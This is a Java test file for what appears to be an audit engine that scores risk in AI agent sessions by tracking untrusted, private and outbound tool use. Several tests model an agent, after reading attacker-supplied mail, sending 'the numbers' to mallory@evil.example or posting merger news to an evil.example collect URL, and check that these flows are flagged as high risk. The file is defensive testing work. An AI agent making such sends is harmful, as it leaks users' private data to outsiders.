package dev.mandate.audit.engine.job;

import static org.assertj.core.api.Assertions.assertThat;

import dev.mandate.audit.engine.records.Bounded;
import dev.mandate.events.lifecycle.ToolLabel;
import dev.mandate.events.risk.FindingEvent;
import dev.mandate.events.risk.SessionRisk.Level;
import java.time.Duration;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What one session does makes no record that its topic, or who reads it, would not take. */
class WrittenWithinBoundsTest {
    private static final String ATTACKER = "mallory@evil.example";

    private static RiskRun agent() {
        return RiskRun.withShippedRules()
                .at("10:00")
                .tool("web.browse", ToolLabel.UNTRUSTED)
                .tool("mail.read", ToolLabel.UNTRUSTED, ToolLabel.PRIVATE)
                .tool("files.list", ToolLabel.PRIVATE)
                .tool("mail.send", ToolLabel.EGRESS);
    }

    /** Nothing that was written since the last look is larger than its topic and its readers take. */
    static void allWithinBounds(RiskRun run) {
        run.written().forEach((topic, records) -> {
            for (var record : records)
                Bounded.require(
                        new ProducerRecord<>(topic, null, null, record.key(), record.value(), record.headers()));
        });
    }

    private static String[] links(int count, String host) {
        return IntStream.range(0, count)
                .mapToObj(i -> "https://" + i + "." + host + "/p")
                .toArray(String[]::new);
    }

    /** 10.8 KB of it ended the job for everybody. */
    @Test
    void an_honest_browse_of_a_long_address_with_many_links() {
        try (var run = agent()) {
            run.answers(
                    "web.browse",
                    Map.of("url", "https://wiki.example/" + "漢".repeat(1000)),
                    links(256, "wiki.example"));
            allWithinBounds(run);
        }
    }

    @Test
    void many_identifiers_as_long_as_they_can_be_of_characters_that_are_written_as_escapes() {
        try (var run = agent()) {
            for (int i = 0; i < 8; i++) {
                var shown = IntStream.range(0, 60)
                        .mapToObj(n -> "😀".repeat(120) + n)
                        .toArray(String[]::new);
                run.answers("web.browse", Map.of("page", i, "path", "a/" + "𝒜".repeat(40)), shown);
            }
            run.learns();
            allWithinBounds(run);
        }
    }

    /** Every tool, address, word and reading is new, and as long as any can be. */
    @ParameterizedTest
    @ValueSource(strings = {"x", "漢", "😀", "\u0001", "\\"})
    void sessions_in_which_all_is_as_long_as_it_can_be(String letter) {
        try (var run = agent()) {
            for (var session : List.of("del_one", "del_two")) {
                run.inSession(session).forTask(longest(letter, "kind"), identifiers(letter, 80, "task"));
                for (int call = 0; call < 130; call++) {
                    var tool = call % 2 == 0 ? "web.browse" : longest(letter, "tool" + call);
                    var arguments = new HashMap<String, Object>();
                    arguments.put("to", call + "@" + letter.repeat(50) + ".example");
                    for (int word = 0; word < 12; word++)
                        arguments.put("word" + word, "/" + call + letter.repeat(20) + word + "/" + letter.repeat(40));
                    run.answers(tool, arguments, identifiers(letter, 24, session + call));
                    run.alerts();
                    allWithinBounds(run);
                }
            }
            run.clockAdvances(Duration.ofMinutes(61));
            allWithinBounds(run);
        }
    }

    /** Tools and kinds of task have 200 characters. */
    private static String longest(String letter, String name) {
        return name + letter.repeat((200 - name.length()) / letter.length());
    }

    private static String[] identifiers(String letter, int count, String of) {
        return IntStream.range(0, count)
                .mapToObj(i -> "https://" + of + i + "." + letter + ".example/" + letter.repeat(200))
                .toArray(String[]::new);
    }

    @Test
    void what_a_session_forgets_of_strangers_stays_the_strangers() {
        try (var run = agent()) {
            run.shows("mail.read", ATTACKER).shows("web.browse", links(256, "wiki.example"));
            run.shows("files.list", ATTACKER); // nor does it become a result of the session's own
            run.calls("mail.send", Map.of("to", ATTACKER, "body", "the numbers"));
            assertThat(run.state().level()).isEqualTo(Level.HIGH);
        }
    }

    @Test
    void a_longer_address_at_a_site_that_was_forgotten_is_the_strangers_too() {
        try (var run = agent()) {
            run.shows("mail.read", "https://evil.example/start").shows("web.browse", links(256, "wiki.example"));
            run.tool("web.post", ToolLabel.EGRESS);
            run.calls("web.post", Map.of("url", "https://in.evil.example/collect?d=the-merger-is-on-friday"));
            assertThat(run.state().level()).isEqualTo(Level.HIGH);
        }
    }

    @Test
    void what_nothing_showed_is_no_strangers_because_others_were_forgotten() {
        try (var run = agent()) {
            run.shows("mail.read", ATTACKER).shows("web.browse", links(300, "wiki.example"));
            run.calls("mail.send", Map.of("to", "grace@own.example", "body", "the numbers"));
            assertThat(run.alerts())
                    .extracting(FindingEvent::severityId)
                    .allMatch(severity -> severity < FindingEvent.HIGH);
        }
    }

    @Test
    void a_strangers_answer_of_which_not_all_was_told_leaves_nobody_known() {
        try (var run = agent()) {
            run.notAllTold(true).shows("web.browse", "https://wiki.example/a").notAllTold(null);
            run.calls("mail.send", Map.of("to", ATTACKER, "body", "the numbers"));
            assertThat(run.state().level()).isEqualTo(Level.HIGH);
        }
    }

    @Test
    void an_own_answer_of_which_not_all_was_told_makes_nobody_a_stranger() {
        try (var run = agent()) {
            run.notAllTold(true).shows("files.list", "plans/a").notAllTold(null);
            run.calls("mail.send", Map.of("to", "grace@own.example", "body", "the numbers"));
            assertThat(run.alerts())
                    .extracting(FindingEvent::severityId)
                    .allMatch(severity -> severity < FindingEvent.HIGH);
        }
    }

    @Test
    void a_session_that_shows_more_than_can_be_held_knows_nobody_any_more() {
        try (var run = agent()) {
            for (int i = 0; i < 4; i++) run.shows("web.browse", links(5_000, i + ".example"));
            run.calls("mail.send", Map.of("to", "nobody@showed.example", "body", "the numbers"));
            assertThat(run.state().level()).isEqualTo(Level.HIGH);
            allWithinBounds(run);
        }
    }
}
